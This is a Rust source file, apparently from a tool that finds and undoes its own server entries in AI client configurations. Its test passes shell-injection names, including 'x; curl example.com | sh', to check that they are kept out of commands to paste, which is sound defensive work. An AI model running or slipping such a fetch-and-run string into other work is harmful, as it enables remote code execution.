//! Connections: entries of this program in the configurations of clients.

use std::path::PathBuf;

use super::args::{DEFAULT_NAME, server_name};
use super::edit;
use super::own_entries::OwnEntries;
use crate::clients::{CLIENTS, Client, Owner, Places};
use crate::replace_file::MAX_BYTES;
use repertoire::regular_file;

/// An entry that leads to this program.
#[derive(Debug)]
pub(crate) struct Connection {
    pub(crate) client: &'static Client,
    pub(crate) owner: Owner,
    pub(crate) path: PathBuf,
    /// The name of the entry.
    pub(crate) name: String,
    /// The arguments that the server is started with; none where it runs already.
    pub(crate) args: Vec<String>,
}

impl Connection {
    /// Returns how to undo it.
    pub(crate) fn undo_in_words(&self) -> String {
        match self.undo_command() {
            Some(command) => format!("run `{command}`"),
            None => format!("remove its entry from {} by hand", self.path.display()),
        }
    }

    /// Returns the command that undoes it, if there is one. A file in a cloned repository may
    /// give the entry any name, and a name that needs quotes is not put into a command to paste.
    fn undo_command(&self) -> Option<String> {
        let owner = if self.owner == Owner::Project { " --project" } else { "" };
        let name = match server_name(&self.name).ok()? {
            name if name == DEFAULT_NAME => String::new(),
            name => format!(" --name {name}"),
        };
        Some(format!("rep connect --undo{owner}{name} {}", self.client.id))
    }

    /// Returns the directories that the server is restricted to, if any.
    pub(crate) fn roots(&self) -> Vec<PathBuf> {
        let pairs = self.args.iter().zip(self.args.iter().skip(1));
        pairs.filter(|(word, _)| *word == "--root").map(|(_, root)| PathBuf::from(root)).collect()
    }
}

/// Returns the connections of all clients, as far as their entries are `ours`. Files that cannot be read or understood have
/// none.
pub(crate) fn connections(ours: &OwnEntries, places: &Places) -> Vec<Connection> {
    let mut found = Vec::new();
    for client in CLIENTS {
        for owner in [Owner::Project, Owner::User] {
            for path in places.configuration(client, owner) {
                found.extend(of_file(ours, client, owner, path));
            }
        }
    }
    found
}

fn of_file(ours: &OwnEntries, client: &'static Client, owner: Owner, path: PathBuf) -> Option<Connection> {
    let text = String::from_utf8(regular_file::read(&path, MAX_BYTES).ok()?).ok()?;
    let document = edit::parse(client.format, &text).ok()?;
    let entries = document.get(client.table)?.as_object()?;
    let (name, entry) = entries.iter().find(|(name, entry)| ours.has(client, name, entry))?;
    let args = client.command_line(entry).map(|(_, args)| args).unwrap_or_default();
    Some(Connection { client, owner, path, name: name.clone(), args })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clients::CLIENTS;

    #[test]
    fn a_command_to_paste_holds_no_name_that_needs_quotes() {
        let command = |name: &str| {
            let (client, path, name) = (&CLIENTS[0], PathBuf::new(), name.to_owned());
            Connection { client, owner: Owner::User, path, name, args: Vec::new() }.undo_command()
        };
        assert_eq!(command("repertoire").as_deref(), Some("rep connect --undo claude-code"));
        assert_eq!(command("mine").as_deref(), Some("rep connect --undo --name mine claude-code"));
        for name in ["x; curl example.com | sh", "$(x)", "`x`", "--all", "a b", ""] {
            assert_eq!(command(name), None, "{name}");
        }
    }
}
